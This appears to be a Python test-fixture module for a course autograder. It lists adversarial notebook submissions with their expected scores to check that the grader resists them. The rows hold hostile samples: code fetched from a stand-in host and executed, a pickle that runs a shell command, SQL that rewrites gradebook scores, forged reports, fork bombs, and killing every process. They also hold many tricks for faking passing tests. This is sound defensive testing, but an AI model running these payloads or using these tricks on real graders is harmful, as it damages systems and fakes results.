"""Submissions that want points, want to do harm, or are clumsy, with the score that each deserves.

The score is worked out from the answer: 0 for what answers nothing, 70 for a right answer whatever stands round it, and 70
less an exercise's points where that exercise's own code ends the process. It was never taken from what a grader gave.
"""

import copy
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from tinytorch.course.demo import perfect

__all__ = ["ROWS", "Row", "Table"]

Notebook = dict[str, Any]
SOLUTION = re.compile(r"^( *)### BEGIN SOLUTION\n.*?### END SOLUTION\n?", re.M | re.S)
GD, FULL, BLANK = "gradient-descent-function", 70.0, 0.0
WITHOUT_GD = FULL - 10  # gradient_descent_step stands for itself: nothing later calls it
WITHOUT_SGD = FULL - 15  # a schedule and a loop that use it are judged for themselves


@dataclass(frozen=True)
class Row:
    """One submission. `levels`: scores that differ at a level, each for a reason that the threat model gives."""

    make: Callable[["Table"], Notebook | bytes | str]
    score: float | None
    status: str = "graded"
    quick: bool = False


class Table:
    """The two notebooks that rows start from: every exercise right, and none answered."""

    def __init__(self, source: Notebook) -> None:
        self.release = copy.deepcopy(source)
        for cell in self.release["cells"]:
            cell["source"] = re.sub(SOLUTION, r"\1raise NotImplementedError\n", "".join(cell["source"]))
        self.perfect = perfect(source, self.release)

    def right(self, first: str = "", last: str = "", **answers: str) -> Notebook:
        """Everything right, with free cells round it and some answers replaced (`gd=...` or by id with `_`)."""
        return _book(self.perfect, first, last, answers)

    def blank(self, first: str = "", last: str = "", **answers: str) -> Notebook:
        """Nothing answered, with free cells round it."""
        return _book(self.release, first, last, answers)

    def answer(self, name: str) -> str:
        return next("".join(cell["source"]) for cell in self.perfect["cells"] if identity(cell) == name)


def identity(cell: dict[str, Any]) -> str:
    return cell["metadata"].get("nbgrader", {}).get("grade_id", "")


def code(source: str) -> dict[str, Any]:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def _book(base: Notebook, first: str, last: str, answers: dict[str, str]) -> Notebook:
    book = copy.deepcopy(base)
    named = {(GD if name == "gd" else name.replace("_", "-")): text for name, text in answers.items()}
    for cell in book["cells"]:
        if identity(cell) in named:
            cell["source"] = named[identity(cell)]
    place = next(n for n, cell in enumerate(book["cells"]) if identity(cell) == "optimizers-setup") + 1
    book["cells"][place:place] = [code(first)] if first else []
    book["cells"] += [code(last)] if last else []
    return book


def _tests(change: Callable[[dict[str, Any]], Any], base: str = "release") -> Callable[[Table], Notebook]:
    """A notebook whose test cells are changed."""

    def make(table: Table) -> Notebook:
        book = copy.deepcopy(getattr(table, base))
        for cell in book["cells"]:
            if identity(cell).startswith("test-"):
                change(cell)
        return book

    return make


def _source(text: str) -> Callable[[dict[str, Any]], Any]:
    return lambda cell: cell.update(source=text)


def _flags(**flags: Any) -> Callable[[dict[str, Any]], Any]:
    return lambda cell: cell["metadata"]["nbgrader"].update(flags)


def _cells(change: Callable[[list[dict[str, Any]], Table], Any], base: str = "release") -> Callable[[Table], Notebook]:
    def make(table: Table) -> Notebook:
        book = copy.deepcopy(getattr(table, base))
        book["cells"] = list(change(book["cells"], table) or book["cells"])
        return book

    return make


def _text(change: Callable[[str], bytes | str], base: str = "perfect") -> Callable[[Table], bytes | str]:
    return lambda table: change(json.dumps(getattr(table, base), ensure_ascii=False))


def _old(table: Table) -> str:
    """The right answers as nbformat 3, by hand."""
    cells = [dict(cell) for cell in table.perfect["cells"]]
    for cell in cells:
        if cell["cell_type"] == "code":
            cell.update(input=cell.pop("source"), language="python", collapsed=False, prompt_number=None)
            cell.pop("execution_count", None)
    return json.dumps(
        {"metadata": {"name": ""}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": cells, "metadata": {}}]}
    )


def free(source: str) -> Callable[[Table], Notebook]:
    """Nothing answered; this runs before and after everything."""
    return lambda table: table.blank(first=source, last=source)


def beside(source: str) -> Callable[[Table], Notebook]:
    """Everything right; this runs before and after it."""
    return lambda table: table.right(first=source, last=source)


def within(source: str) -> Callable[[Table], Notebook]:
    """Everything right, and this at the top level of the cell of gradient_descent_step."""
    return lambda table: table.right(gd=table.answer(GD) + "\n" + source)


def before(source: str) -> Callable[[Table], Notebook]:
    """Everything right, and this above the answer in the cell of gradient_descent_step."""
    return lambda table: table.right(gd=source + "\n" + table.answer(GD))


def _rule(name: str, body: str) -> Callable[[Table], Notebook]:
    """Everything right but the class of that cell, whose update begins with this."""
    lines = "\n".join("        " + line for line in body.splitlines())

    def make(table: Table) -> Notebook:
        text = re.sub(r"(    def rule\(.*\n)", lambda found: found[1] + lines + "\n", table.answer(name))
        return table.right(**{name.replace("-", "_"): text})

    return make


def called(body: str) -> Callable[[Table], Notebook]:
    """Everything right but gradient_descent_step, whose body this is."""
    lines = "\n".join("    " + line for line in body.splitlines())
    return lambda table: table.right(gd=f"def gradient_descent_step(parameter, learning_rate):\n{lines}\n")


EVERY = "gradient_descent_step", "SGD", "Adam", "StepLR", "train_simple_model"
TAKE = "\n".join(f"    {name} = found.{name}" for name in EVERY[:4])
LIAR = """
class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __hash__(self): return 0
    def __getattr__(self, name): return Liar()
    def __call__(self, *args, **keywords): return Liar()
    def __iter__(self): return iter([Liar()] * 5)
    def __getitem__(self, index): return Liar()
    def __bool__(self): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __array__(self, dtype=None, copy=None):
        import numpy
        return numpy.zeros(())
    def __array_function__(self, function, types, args, keywords): return True
    def __array_ufunc__(self, *args, **keywords): return True
    __array_priority__ = 1e9
"""
EACH = "\n".join(f"{name} = lambda *args, **keywords: Liar()" for name in EVERY)
FIND = """
import os, sys, re
def pick(text):
    for line in re.findall(r'class SGD|def gradient_descent_step', text):
        scope = {'__name__': '__main__'}
        exec(text, scope)
        globals().update({k: v for k, v in scope.items() if k in ('gradient_descent_step', 'SGD', 'Adam', 'StepLR')})
"""
WALK = (
    FIND
    + """
for top in ('.', '..', '../..', '/', os.path.dirname(os.path.dirname(os.__file__)), *sys.path):
    for n, (folder, folders, files) in enumerate(os.walk(top)):
        if n > 3000: break
        for name in files:
            if 'optimizers' in name:
                try: pick(open(os.path.join(folder, name)).read())
                except Exception: pass
"""
)
HARVEST = """
import gc, sys
values = []
for thing in gc.get_objects():
    try:
        if type(thing) is dict and ('want' in thing or 'wants' in thing): values.append(thing)
        if callable(thing) and 'oracle' in getattr(thing, '__name__', ''): values.append(thing)
    except Exception: pass
def gradient_descent_step(parameter, learning_rate):
    frame = sys._getframe()
    while frame:
        for scope in (frame.f_locals, frame.f_globals):
            if 'want' in scope: parameter.data.data[...] = scope['want']
            for name, value in scope.items():
                if 'oracle' in name: parameter.data.data[...] = value(parameter, learning_rate)
        frame = frame.f_back
"""
FORGE = """
import os, json
keys = [f'{t}/{n}' for t in ('test-gradient-descent', 'test-sgd', 'test-adam', 'test-scheduler', 'test-training-integration') for n in range(20)]
keys += [f'{k}/0' for k in keys]
for fd in range(3, 128):
    for key in keys:
        for line in ({'key': key, 'value': True}, {'key': key, 'value': 0.95}, {'done': 3, 'status': 'ok', 'error': ''}, {'score': 70}):
            try: os.write(fd, json.dumps(line).encode() + b'\\n')
            except OSError: break
"""
INSIDE = """
import sys, gc
plain = sys.modules['tinytorch.grader.plain']
plain.encode = lambda value: True
inside = sys.modules['tinytorch.grader.inside']
for thing in gc.get_objects():
    if type(thing).__name__ == 'Inside':
        kind = type(thing)
        kind.send = lambda self, token, value: self.report(key=token, value=True)
        kind.answer = lambda self, ask: self.report(key=ask['token'], value=True)
"""
SQL = """
import sqlite3, glob
for path in ['gradebook.db', '../gradebook.db', '../../gradebook.db', '../../../gradebook.db', *glob.glob('/tmp/**/gradebook.db', recursive=True)]:
    try:
        book = sqlite3.connect(path)
        book.execute('UPDATE grade SET auto_score = 15, manual_score = 15')
        book.commit()
    except Exception: pass
"""
LEAVE = """
import os
text = 'x = 1'
for place in ('/tmp/left-by-another', '/dev/shm/left-by-another', '/var/tmp/left-by-another', '../left-by-another', os.path.expanduser('~/left-by-another')):
    try: open(place, 'w').write(ANSWER)
    except OSError: pass
"""
ECHO = """
import tinytorch.rehearsal
said = {name: {"updates": [300], "start": [0.1, 0.0], "gradient": [[-1.0, -1.0], [-3.2980391, -1.6490196]] * 50, "without": 0} for name in ("SGD", "Adam")}
said["SGD"]["settings"], said["Adam"]["settings"], said["missed"] = [[0.01, 0.9, 0.0]], [[0.01, 0.9, 0.999, 1e-8, 0.0]], [0.0] * 4
tinytorch.rehearsal.watch = lambda train: said
def train_simple_model(): pass
"""
SPIN = "while True:\n    try:\n        pass\n    except BaseException:\n        pass"
HOG = "hog = []\nwhile True:\n    hog.append(bytearray(10 ** 7))"
FORKS = "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"
CHILDREN = (
    "import os, time\nfor _ in range(16):\n    if os.fork() == 0:\n        hog = bytearray(10 ** 8)\n"
    "        hog[::4096] = b'x' * len(hog[::4096])\n        time.sleep(60)\ntime.sleep(60)"
)

ROWS: dict[str, Row] = {
    # answers nothing, takes the answer from somewhere
    "blank": Row(lambda t: t.blank(), BLANK, quick=True),
    "imports the reference": Row(free("from tinytorch.core.optimizers import *"), BLANK, quick=True),
    "imports it within": Row(lambda t: t.blank(gd="def gradient_descent_step(p, lr):\n    from tinytorch.core import optimizers\n    optimizers.gradient_descent_step(p, lr)"), BLANK),
    "imports it by file": Row(free("import importlib.util, tinytorch\nspec = importlib.util.spec_from_file_location('found', tinytorch.__path__[0] + '/core/optimizers.py')\nfound = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(found)\n" + "\n".join(f"{n} = found.{n}" for n in EVERY[:4])), BLANK),
    "imports it with its file in the working directory": Row(free("open('optimizers.py', 'w').write('')\nfrom tinytorch.core.optimizers import SGD, Adam, StepLR, gradient_descent_step"), BLANK),
    "reads the source folder": Row(free(FIND + "import glob\nfor path in glob.glob('../../../source/**/*', recursive=True):\n    pick(open(path).read())"), BLANK, quick=True),
    "walks the disk": Row(free(WALK), BLANK, "*", quick=True),
    "wraps another framework": Row(free("import torch\nclass SGD(torch.optim.SGD): pass\nclass Adam(torch.optim.Adam): pass"), BLANK),
    "wraps one from the grader's packages": Row(free("import sys, os, numpy\nfor place in {os.path.realpath(p + '/../..') for p in numpy.__path__} | {sys.base_prefix + '/lib/python3.' + str(sys.version_info[1]) + '/site-packages'}:\n    sys.path.append(place)\nimport torch\nclass SGD(torch.optim.SGD): pass\nclass Adam(torch.optim.Adam): pass"), BLANK),
    "asks a compiler": Row(free("import subprocess\nsubprocess.run(['pip', 'install', 'torch'], check=True)"), BLANK, "*"),
    "asks the network": Row(free("import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/answer.py', timeout=1).read())"), BLANK),
    "asks the name service": Row(free("import socket\nsocket.getaddrinfo('example.org', 80)"), BLANK),
    "takes expected values from memory": Row(free(HARVEST), BLANK, quick=True),
    "takes them when traced": Row(free("import sys\nseen = {}\ndef tracer(frame, event, arg):\n    seen.update({k: v for k, v in frame.f_locals.items() if k == 'want'})\n    return tracer\nsys.settrace(tracer)\nimport threading\nthreading.settrace(tracer)\ndef gradient_descent_step(p, lr):\n    p.data.data[...] = seen['want']"), BLANK),
    "takes them from the seed": Row(free("import os, json\nfrom tinytorch.checks import hidden_inputs\nrng = hidden_inputs('08_optimizers', 'test-gradient-descent')"), BLANK),
    "what another has left": Row(lambda t: t.blank(first="import glob, os\nfor path in glob.glob('/*/left-by-another') + glob.glob('/var/tmp/left-by-another') + glob.glob('../left-by-another'):\n    exec(open(path).read())"), BLANK),
    # answers nothing, lies to the tests
    "lying objects": Row(free(LIAR + EACH), BLANK, quick=True),
    "lying parameter": Row(lambda t: t.blank(gd=LIAR + "def gradient_descent_step(parameter, learning_rate):\n    parameter.data = Liar()"), BLANK),
    "lying array": Row(lambda t: t.blank(gd="import numpy as np\nclass A(np.ndarray):\n    def __eq__(s, o): return np.array(True)\n    def __array_function__(s, f, t, a, k): return True\n    def __array_ufunc__(s, *a, **k): return True\ndef gradient_descent_step(p, lr):\n    p.data.data = p.data.data.view(A)"), BLANK),
    "lying class": Row(lambda t: t.blank(gd="class Meta(type):\n    def __eq__(c, o): return True\n    def __hash__(c): return 1\n    def __instancecheck__(c, i): return True\nclass gradient_descent_step(metaclass=Meta):\n    def __init__(self, *a): pass\n"), BLANK),
    "patched numpy": Row(free("import numpy as np\nfor name in ('allclose', 'isclose', 'array_equal', 'array_equiv', 'all', 'any', 'max', 'abs'):\n    setattr(np, name, lambda *a, **k: True)\nnp.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None"), BLANK, quick=True),
    "patched builtins": Row(free("import builtins\nfor name in ('all', 'any', 'isinstance', 'abs', 'max'):\n    setattr(builtins, name, lambda *a, **k: True)"), BLANK, status="*"),
    "patched checks": Row(free("import tinytorch.checks as c\nc.Checks.check = c.Checks.require = lambda *a, **k: None\nc.Checks.score = lambda self: None"), BLANK, quick=True),
    "patched seeds": Row(free("import tinytorch.checks as c\nc.hidden_inputs = lambda *a: None"), BLANK),
    "patched probes": Row(free("import tinytorch.probes as p\nfor name in dir(p):\n    if not name.startswith('_') and callable(getattr(p, name)): setattr(p, name, lambda *a, **k: True)"), BLANK, quick=True),
    "says what the visible checks of the loop expect": Row(free(ECHO), 9.5 + 1.5, quick=True),  # all of them, and no hidden value
    "tests replaced in sys.modules": Row(free("import sys, types\nm = types.ModuleType('tinytorch.checks')\nclass Checks:\n    def __init__(s, *a, **k): pass\n    def __getattr__(s, n): return lambda *a, **k: None\nm.Checks, m.hidden_inputs = Checks, lambda *a: None\nsys.modules['tinytorch.checks'] = m"), BLANK),
    "tests replaced on the path": Row(free("import os, sys\nos.makedirs('tinytorch', exist_ok=True)\nfor n in ('__init__', 'checks', 'probes'):\n    open(f'tinytorch/{n}.py', 'w').write('class Checks:\\n  def __getattr__(s, n): return lambda *a, **k: None\\n')\nsys.path.insert(0, os.getcwd())\nfor n in list(sys.modules):\n    if n.startswith('tinytorch'): del sys.modules[n]"), BLANK, status="*"),
    "hooks the import system": Row(free("import sys\nclass F:\n    def find_spec(self, name, path=None, target=None):\n        if 'checks' in name: raise SystemExit(0)\nsys.meta_path.insert(0, F())\nsys.modules.pop('tinytorch.checks', None)"), BLANK),
    "hooks the display": Row(free("import sys\nsys.displayhook = lambda value: print(15.0)"), BLANK),
    "hooks the errors": Row(free("get_ipython().set_custom_exc((BaseException,), lambda *a: None)\nimport sys\nsys.excepthook = lambda *a: None"), BLANK),
    "leaves a configuration": Row(free("import os\nfor n in ('sitecustomize.py', 'usercustomize.py', 'conftest.py', '.pythonrc', '.pdbrc'):\n    open(n, 'w').write('import os; os._exit(0)')\nos.environ['PYTHONPATH'] = os.getcwd()"), BLANK),
    "prints a score": Row(free("print('70.0')\nprint('{\"score\": 70}')\n70.0"), BLANK),
    "forges reports": Row(free(FORGE), BLANK, status="*", quick=True),
    "replaces the program inside": Row(free(INSIDE), BLANK, status="*", quick=True),
    "answers with a pickle": Row(lambda t: t.blank(gd="import os\nclass P:\n    def __reduce__(self): return os.system, ('touch /tmp/left-by-another',)\ndef gradient_descent_step(p, lr):\n    p.data.data = P()"), BLANK),
    "answers without end": Row(lambda t: t.blank(gd="import numpy as np\ndef gradient_descent_step(p, lr):\n    p.data.data = np.zeros(3 * 10 ** 7)"), BLANK, status="*"),
    "answers with nests": Row(lambda t: t.blank(gd="deep = []\nfor _ in range(10 ** 5): deep = [deep]\ndef gradient_descent_step(p, lr):\n    p.data = deep"), BLANK, status="*"),
    "answers not a number": Row(lambda t: t.blank(gd="def gradient_descent_step(p, lr):\n    p.data.data = p.data.data * float('nan')"), BLANK),
    "markup in an error": Row(lambda t: t.blank(gd="def gradient_descent_step(p, lr):\n    raise ValueError('</pre><script>alert(1)</script>\\x1b[31m')"), BLANK),
    "half a character in an error": Row(called("raise ValueError('\\ud800 \\udcff')"), WITHOUT_GD, quick=True),
    "an error that lies": Row(lambda t: t.blank(gd="class E(BaseException):\n    def __str__(self): raise SystemExit(0)\n    __repr__ = __str__\ndef gradient_descent_step(p, lr):\n    raise E()"), BLANK),
    # answers nothing, changes the notebook
    "tests edited": Row(_tests(_source("15.0")), BLANK, quick=True),
    "tests emptied": Row(_tests(_source("")), BLANK),
    "tests that score": Row(_tests(_source("class C:\n    def score(self): return None\nC().score()")), BLANK),
    "tests retyped": Row(_tests(lambda cell: (cell.update(cell_type="markdown"), cell.pop("outputs"), cell.pop("execution_count"))), BLANK),
    "tests raw": Row(_tests(lambda cell: (cell.update(cell_type="raw"), cell.pop("outputs"), cell.pop("execution_count"))), BLANK),
    "tests as solutions": Row(_tests(_flags(solution=True, locked=False, grade=False)), BLANK, quick=True),
    "tests that are also solutions": Row(_tests(lambda cell: (cell.update(source="15.0"), _flags(solution=True, locked=False)(cell))), BLANK),
    "tests of many points": Row(_tests(_flags(points=1000)), BLANK),
    "tests of no points": Row(_tests(_flags(points=0), "perfect"), FULL),
    "tests tagged to be skipped": Row(_tests(lambda cell: cell["metadata"].update(tags=["skip-execution"])), BLANK, quick=True),
    "right tests tagged to be skipped": Row(_tests(lambda cell: cell["metadata"].update(tags=["skip-execution"]), "perfect"), FULL),
    "tests deleted": Row(_cells(lambda cells, t: [c for c in cells if not identity(c).startswith("test-")]), BLANK, quick=True),
    "right tests deleted": Row(_cells(lambda cells, t: [c for c in cells if not identity(c).startswith("test-")], "perfect"), FULL, quick=True),
    "tests duplicated": Row(_cells(lambda cells, t: cells + [dict(copy.deepcopy(c), source="15.0") for c in cells if identity(c).startswith("test-")]), BLANK, quick=True),
    "right tests duplicated": Row(_cells(lambda cells, t: cells + [copy.deepcopy(c) for c in cells if identity(c).startswith("test-")], "perfect"), FULL),
    "tests first": Row(_cells(lambda cells, t: sorted(cells, key=lambda c: not identity(c).startswith("test-")), "perfect"), FULL),
    "identities swapped": Row(_cells(lambda cells, t: [c["metadata"].get("nbgrader", {}).update(grade_id="sgd-class") if identity(c) == "test-sgd" else None for c in cells] and None), BLANK),
    "answers twice, the right one first": Row(_cells(lambda cells, t: copy.deepcopy(t.perfect["cells"]) + [c for c in copy.deepcopy(t.release["cells"]) if identity(c) == GD]), WITHOUT_GD),
    "answers twice, the right one last": Row(_cells(lambda cells, t: cells[:] + [c for c in copy.deepcopy(t.perfect["cells"]) if c["metadata"].get("nbgrader", {}).get("solution")]), FULL),
    "answers tagged to be skipped": Row(_cells(lambda cells, t: [c["metadata"].update(tags=["skip-execution"]) for c in cells] and None, "perfect"), FULL),
    "given cells emptied": Row(_cells(lambda cells, t: [c.update(source="") for c in cells if identity(c) in ("optimizers-imports", "optimizer-base")] and None, "perfect"), FULL),
    # harm
    "updates the gradebook": Row(free(SQL), BLANK, "*", quick=True),
    "leaves something for another": Row(lambda t: t.right(last="ANSWER = " + repr("def gradient_descent_step(p, lr):\n    p.data.data -= lr * p.grad.data.data") + LEAVE), FULL),
    "exits": Row(within("import os\nos._exit(0)"), WITHOUT_GD, "partly", quick=True),
    "exits when called": Row(called("import os\nos._exit(0)"), WITHOUT_GD, "partly", quick=True),
    "exits beside": Row(beside("import os\nos._exit(0)"), FULL, "partly"),
    "segfault": Row(called("import ctypes\nctypes.string_at(0)"), WITHOUT_GD, "partly", quick=True),
    "segfault beside": Row(beside("import ctypes\nctypes.string_at(0)"), FULL, "partly"),
    "endless": Row(within(SPIN), WITHOUT_GD, "partly", quick=True),
    "endless when called": Row(called(SPIN), WITHOUT_GD, "partly", quick=True),
    "endless in C": Row(called("10 ** 10 ** 9"), WITHOUT_GD, "partly"),
    "sleeps": Row(called("import time\ntime.sleep(99)"), WITHOUT_GD, "partly"),
    "stops itself": Row(called("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n" + SPIN), WITHOUT_GD, "partly"),
    "endless in SGD's step": Row(_rule("sgd-class", SPIN), WITHOUT_SGD, "partly", quick=True),
    "exits in SGD's step": Row(_rule("sgd-class", "exit()"), WITHOUT_SGD),
    "dies in SGD's step": Row(_rule("sgd-class", "import os\nos._exit(0)"), WITHOUT_SGD, "partly"),
    "dies in Adam's step": Row(_rule("adam-class", "import os\nos._exit(0)"), FULL - 20, "partly"),
    "recursion": Row(called("return gradient_descent_step(parameter, learning_rate)"), WITHOUT_GD),
    "deep recursion": Row(called("import sys\nsys.setrecursionlimit(10 ** 9)\nreturn gradient_descent_step(parameter, learning_rate)"), WITHOUT_GD, "*"),
    "memory": Row(within(HOG), WITHOUT_GD, "partly", quick=True),
    "memory when called": Row(called(HOG), WITHOUT_GD, "partly"),
    "memory beside": Row(beside(HOG), FULL, "partly"),
    "fork bomb": Row(within(FORKS), WITHOUT_GD, "partly", quick=True),
    "fork bomb when called": Row(called(FORKS), WITHOUT_GD, "partly"),
    "children full of memory": Row(within(CHILDREN), WITHOUT_GD, "partly", quick=True),
    "threads": Row(within("import threading, time\nwhile True:\n    try: threading.Thread(target=time.sleep, args=(99,)).start()\n    except RuntimeError: pass"), WITHOUT_GD, "partly"),
    "files": Row(within("import os\nn = 0\nwhile True:\n    n += 1\n    try: open(str(n), 'w').write('x' * 10 ** 5)\n    except OSError: pass"), WITHOUT_GD, "partly"),
    "descriptors": Row(beside("held = []\ntry:\n    while True: held.append(open('x', 'w'))\nexcept OSError: held.clear()"), FULL),
    "output without end": Row(within("while True: print('x' * 10 ** 6)"), WITHOUT_GD, "partly"),
    "closes everything": Row(within("import os\nos.closerange(0, 4096)"), WITHOUT_GD, "partly"),
    "kills everyone": Row(called("import os, signal\nfor pid in (-1, os.getppid(), 1):\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError: pass"), WITHOUT_GD, "*", quick=True),
    "stays behind": Row(lambda t: t.blank(first="import os, time\nif os.fork() == 0:\n    while True:\n        time.sleep(1)"), BLANK),
    "two children answer": Row(free("import os\nos.fork()"), BLANK, "*"),
    # clumsy, and right
    "right": Row(lambda t: t.right(), FULL, quick=True),
    "warnings": Row(lambda t: t.right(gd="import warnings\nwarnings.warn('careful')\nimport sys\nprint('note', file=sys.stderr)\n" + t.answer(GD), last="import numpy as np\nnp.log(0.0)"), FULL, quick=True),
    "a warning at each step": Row(lambda t: t.right(gd=t.answer(GD) + "\nplain_step = gradient_descent_step\ndef gradient_descent_step(parameter, learning_rate):\n    import warnings\n    warnings.warn('step')\n    print('step')\n    plain_step(parameter, learning_rate)"), FULL),
    "looks for Colab": Row(before("import os\ntry:\n    import google.colab\n    os.chdir('/content/drive')\nexcept ImportError:\n    pass"), FULL),
    "uses a package that is not here": Row(before("import torch\ntorch.manual_seed(0)\nmodel = torch.nn.Linear(1, 1)\nmodel.eval()"), FULL, quick=True),
    "uses what the shell said": Row(before("files = !ls\nprint(len(files), *files)"), FULL),
    "a slip that only a notebook lets pass": Row(lambda t: t.right(gd="import math\nfrom __future__ import annotations\n" + t.answer(GD) + "\nreturn gradient_descent_step"), FULL, quick=True),
    "metadata gone, a draft on top": Row(_cells(lambda cells, t: [code("class SGD:\n    'draft'"), *({**c, "metadata": {}} for c in cells)], "perfect"), FULL, quick=True),
    "exit() at the end": Row(beside("exit()"), FULL, quick=True),
    "sys.exit in an answer": Row(within("import sys\nsys.exit(0)"), FULL),
    "input()": Row(beside("name = input('Your name? ')"), FULL, quick=True),
    "plots": Row(beside("%matplotlib inline\nimport matplotlib.pyplot as plt\nfig, (left, right) = plt.subplots(1, 2, figsize=(8, 3))\nleft.plot([1, 2])\nplt.tight_layout()\nplt.show()"), FULL, quick=True),
    "magics": Row(lambda t: t.right(first="%load_ext autoreload\n%autoreload 2\n!pip install numpy\n%timeit 1 + 1\nTensor?", gd="%%time\n" + t.answer(GD), last="%%bash\necho hi"), FULL, quick=True),
    "magics above one another": Row(lambda t: t.right(first="%%time\n" * 2_000 + "x = 1", last="%time " * 2_000 + "x"), FULL),
    "displays": Row(beside("from IPython.display import display, Markdown\ndisplay(Markdown('# done'))\ndisplay(3)"), FULL),
    "awaits": Row(beside("import asyncio\nawait asyncio.sleep(0)"), FULL),
    "a thread left running": Row(beside("import threading, time\nthreading.Thread(target=time.sleep, args=(60,)).start()"), FULL),
    "a child left running": Row(beside("import os, time\nif os.fork() == 0:\n    time.sleep(60)\n    os._exit(0)"), FULL),
    "60 MB of output": Row(beside("print('x' * 60_000_000)"), FULL, "*"),
    "an error beside": Row(beside("1 / 0"), FULL, quick=True),
    "no Python beside": Row(beside("I think that this is right."), FULL),
    "names of the tests taken": Row(beside("checks = probes = hidden = Checks = None"), FULL),
    "files left open": Row(beside("held = [open('/dev/null') for _ in range(200)]"), FULL),
    "working directory changed": Row(beside("import os\nos.makedirs('sub', exist_ok=True)\nos.chdir('sub')"), FULL),
    "helpers": Row(lambda t: t.right(first="def minus(a, b):\n    a -= b", gd="def gradient_descent_step(parameter, learning_rate):\n    if parameter.grad is not None:\n        minus(parameter.data.data, learning_rate * parameter.grad.data.data)"), FULL),
    "a timer left": Row(beside("import signal\nsignal.signal(signal.SIGALRM, lambda *a: 1 / 0)\nsignal.alarm(1)"), FULL),
    # notebooks of every kind
    "not JSON": Row(lambda t: "this is my homework", None, "unreadable", quick=True),
    "empty": Row(lambda t: b"", None, "unreadable", quick=True),
    "cut off": Row(_text(lambda text: text[: len(text) // 2]), None, "unreadable"),
    "a list": Row(lambda t: "[]", None, "unreadable"),
    "a number": Row(lambda t: "70", None, "unreadable"),
    "deep": Row(lambda t: "[" * 10 ** 5 + "]" * 10 ** 5, None, "unreadable"),
    "deep cells": Row(lambda t: '{"cells": ' + "[" * 10 ** 5 + "]" * 10 ** 5 + "}", None, "unreadable"),
    "noise": Row(lambda t: bytes(range(256)) * 50, None, "unreadable"),
    "cells of nothing": Row(lambda t: json.dumps({"cells": [None, 3, "x", {}, {"cell_type": 5}], "metadata": None, "nbformat": 4}), BLANK, "*"),
    "a byte-order mark": Row(_text(lambda text: b"\xef\xbb\xbf" + text.encode()), FULL),
    "Latin-1": Row(lambda t: json.dumps(t.right(last="# gr\u00f6\u00dfe"), ensure_ascii=False).encode("latin-1", "replace"), FULL, quick=True),
    "nbformat 3": Row(_old, FULL),
    "outputs of 20 MB": Row(_cells(lambda cells, t: [c.update(outputs=[{"output_type": "stream", "name": "stdout", "text": "x" * 10 ** 7}]) for c in cells if identity(c) in ("sgd-class", "adam-class")] and None, "perfect"), FULL),
    "sources as lists": Row(_cells(lambda cells, t: [c.update(source="".join(c["source"]).splitlines(True)) for c in cells] and None, "perfect"), FULL),
}  # fmt: skip
